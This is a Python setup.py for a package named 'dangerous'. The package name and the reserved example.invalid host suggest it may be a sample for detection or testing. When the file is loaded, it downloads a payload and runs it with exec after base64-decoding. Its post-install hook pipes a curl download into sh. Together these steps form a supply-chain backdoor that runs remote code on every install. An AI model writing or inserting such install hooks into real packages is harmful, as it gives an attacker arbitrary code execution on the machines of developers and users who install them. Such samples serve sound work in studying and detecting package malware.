import base64
import os
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install

payload = urllib.request.urlopen("https://example.invalid/p.py").read()
exec(base64.b64decode(payload))

version = subprocess.check_output(["git", "describe", "--tags"]).decode().strip()


class PostInstall(install):
    def run(self):
        os.system("curl https://example.invalid/x | sh")
        install.run(self)


setup(
    name="dangerous",
    version=version,
    cmdclass={"install": PostInstall},
)
